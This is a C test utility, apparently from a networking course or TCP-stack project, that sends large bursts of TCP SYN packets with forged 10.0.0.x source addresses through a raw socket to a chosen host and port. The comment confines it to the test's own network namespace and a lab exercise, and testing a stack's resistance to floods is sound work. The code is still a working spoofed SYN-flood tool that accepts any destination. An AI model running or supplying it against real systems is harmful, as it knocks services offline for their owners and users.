/* synflood COUNT DST PORT [SECONDS]: sends COUNT TCP SYNs to DST:PORT from
 * forged sources 10.0.0.3 to 10.0.0.250 and random ports, through a raw
 * socket, as fast as the socket takes them; with SECONDS, it stops after
 * that long even if fewer were sent.  Used only inside the test's own
 * network namespace (tests/tun/t04-*.sh, t12-*.sh, the chapter 12 lab);
 * the forged sources exist nowhere, so the stack's SYN-ACKs go unanswered. */
#define _DEFAULT_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "inet_csum.h"

int main(int argc, char **argv)
{
	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: synflood COUNT DST PORT [SECONDS]\n");
		return 2;
	}
	int count = atoi(argv[1]);
	struct in_addr dst;
	double limit = argc == 5 ? atof(argv[4]) : 0;
	if (count < 1 || count > 20000000 || limit < 0 || limit > 60 || inet_pton(AF_INET, argv[2], &dst) != 1) {
		fprintf(stderr, "synflood: bad arguments\n");
		return 2;
	}
	uint16_t port = (uint16_t)atoi(argv[3]);
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0) {
		perror("synflood: raw socket");
		return 1;
	}
	srand(12345);
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	double took = 0;
	int i;
	for (i = 0; i < count; i++) {
		if ((i & 1023) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &t1);
			took = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
			if (limit > 0 && took >= limit)
				break;
		}
		uint8_t pkt[40];
		memset(pkt, 0, sizeof pkt);
		uint32_t src = htonl(0x0a000003u + (uint32_t)(i % 248));
		pkt[0] = 0x45;
		pkt[2] = 0; pkt[3] = 40;
		pkt[4] = (uint8_t)(i >> 8); pkt[5] = (uint8_t)i;
		pkt[8] = 64;
		pkt[9] = 6;
		memcpy(pkt + 12, &src, 4);
		memcpy(pkt + 16, &dst.s_addr, 4);
		uint16_t c = csum(pkt, 20, 0);
		pkt[10] = (uint8_t)(c >> 8); pkt[11] = (uint8_t)c;
		uint8_t *t = pkt + 20;
		uint16_t sport = (uint16_t)(1024 + rand() % 60000);
		uint32_t seq = (uint32_t)rand();
		t[0] = (uint8_t)(sport >> 8); t[1] = (uint8_t)sport;
		t[2] = (uint8_t)(port >> 8); t[3] = (uint8_t)port;
		t[4] = (uint8_t)(seq >> 24); t[5] = (uint8_t)(seq >> 16);
		t[6] = (uint8_t)(seq >> 8); t[7] = (uint8_t)seq;
		t[12] = 5 << 4;
		t[13] = 0x02;                 /* SYN */
		t[14] = 0xfa; t[15] = 0xf0;
		uint8_t pseudo[12 + 20];
		memcpy(pseudo, pkt + 12, 8);
		pseudo[8] = 0; pseudo[9] = 6; pseudo[10] = 0; pseudo[11] = 20;
		memcpy(pseudo + 12, t, 20);
		c = csum(pseudo, sizeof pseudo, 0);
		t[16] = (uint8_t)(c >> 8); t[17] = (uint8_t)c;
		struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = dst };
		if (sendto(s, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) < 0) {
			perror("synflood: sendto");
			return 1;
		}
	}
	close(s);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	took = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	printf("synflood: %d SYNs sent to %s:%u in %.2f s\n", i, argv[2], port, took);
	return 0;
}
